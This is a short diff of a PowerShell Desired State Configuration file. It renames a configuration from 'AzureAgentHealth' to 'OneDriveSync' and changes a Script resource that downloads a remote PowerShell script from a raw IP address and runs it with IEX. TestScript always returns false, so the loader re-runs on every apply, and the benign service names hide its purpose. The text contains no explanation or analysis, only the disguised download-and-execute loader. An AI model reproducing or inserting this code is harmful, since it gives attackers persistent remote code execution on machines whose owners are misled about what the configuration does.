@@ -1,11 +1,11 @@
-# bootstrap 9616 v1
-Configuration AzureAgentHealth {
+# init 9182 v1
+Configuration OneDriveSync {
   Import-DscResource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '' } }
       TestScript = { $false }
-      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/stage2.ps1') }
+      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1') }
     }
   }
 }
